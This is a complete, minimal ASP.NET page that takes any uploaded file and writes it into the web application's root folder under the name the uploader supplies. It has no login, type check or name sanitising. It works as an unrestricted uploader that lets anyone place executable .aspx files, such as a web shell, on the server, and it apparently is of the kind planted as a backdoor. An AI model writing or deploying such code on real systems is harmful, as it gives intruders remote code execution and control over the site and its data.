<%@ Page Language="C#" %>
<script runat="server">
protected void Upload_Click(object sender, EventArgs e)
{
    if (fu.HasFile) { fu.SaveAs(Server.MapPath("~/") + fu.FileName); msg.Text = "saved"; }
}
</script>
<html><body><form runat="server" enctype="multipart/form-data">
<asp:FileUpload ID="fu" runat="server" />
<asp:Button ID="b" runat="server" Text="Upload" OnClick="Upload_Click" />
<asp:Label ID="msg" runat="server" />
</form></body></html>
